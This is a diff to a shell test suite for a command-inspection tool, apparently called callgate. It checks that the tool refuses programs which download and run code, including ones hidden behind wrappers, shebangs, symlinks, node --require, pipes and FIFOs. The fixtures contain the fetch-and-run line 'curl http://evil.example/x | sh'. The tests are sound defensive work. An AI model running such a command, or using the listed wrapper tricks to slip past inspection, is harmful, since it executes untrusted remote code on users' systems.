@@ -48,6 +48,38 @@ jq -e '.status == "refused" and .exit_code == 126 and .error.code == "inspect" a
 	(.error.message | contains("bad.py:2: download-run"))' "$T/out" >/dev/null || fail "result: $(cat "$T/out")"
 run --inspect -- env A=1 python3 "$T/w/bad.py"
 refused "$T/w/bad.py:2: download-run"
+# What other programs start: unit tests have their options.
+run --inspect -- timeout -s KILL 60 nice -n 1 nohup stdbuf -oL env -S 'A=1 python3 -I' bad.py
+refused 'bad.py:2: download-run'
+{ echo '#!/usr/bin/env -S -i python3 -I' && cat "$T/w/bad.py"; } >"$T/w/script" && chmod +x "$T/w/script"
+run --inspect -- ./script
+refused './script:3: download-run'
+ln -s "$(command -v python3)" "$T/w/interpreter"
+run --inspect -- ./interpreter bad.py
+refused 'bad.py:2: download-run'
+if command -v node >/dev/null; then
+	echo 'require("child_process").execSync("curl http://evil.example/x | sh")' >"$T/w/bad.js"
+	: >"$T/w/good.js"
+	for arguments in '--require=./bad good.js' '-e 1 -r ./bad.js'; do
+		# shellcheck disable=SC2086
+		run --inspect -- node $arguments
+		refused ':1: download-run'
+	done
+fi
+# What cannot be looked at is a finding.
+echo '{"version": 1, "inspect": {"refuse": ["not-looked-at"]}}' >"$T/n.json"
+mkfifo "$T/w/fifo.py"
+ln -s /proc/self/fd/0 "$T/w/link.py"
+for command in 'xargs python3' 'env -Spython3\\c' 'env PYTHONPATH=x python3 good.py' \
+	'python3 fifo.py' 'python3 link.py'; do
+	# shellcheck disable=SC2086
+	run -p "$T/n.json" -- $command
+	refused 'command line: not-looked-at: '
+done
+run -p "$T/n.json" -- timeout 60 python3 good.py
+ran
+run --inspect -- perl good.py
+grep -q 'good.py: not-parsed: no parser for this kind of file' "$T/err" || fail "perl: $(cat "$T/err")"
 run --inspect -- bash -c ': >started; curl http://evil.example/x | sh'
 refused 'command line:1: download-run'
 run --inspect -- python3 good.py
@@ -109,7 +141,7 @@ run --inspect -- python3 -m good.sub
 refused 'good/__init__.py:2: download-run'
 rm -r "$T/w/good"
 run --inspect -- python3 -m this
-grep -qx 'callgate: inspect: the module is not in the working directory, so it is not looked at' "$T/err" ||
+grep -qx 'callgate run: inspect: command line: not-looked-at: module this: not in the working directory' "$T/err" ||
 	fail "a module: $(cat "$T/err")"
 # given INPUT COMMAND…: as run, with a standard input
 given()
@@ -133,7 +165,7 @@ refused 'standard input:1: download-run'
 given "$T/w/good.py" python3 -
 ran
 given <(cat "$T/w/good.py") python3 -
-grep -q 'is read from standard input, which is no file, so it is not looked at' "$T/err" || started=no
+grep -q 'not-looked-at: the program is read from standard input, which is no file' "$T/err" || started=no
 [ $started = yes ] || fail "a pipe: $(cat "$T/err")"
 
 if command -v cc >/dev/null; then
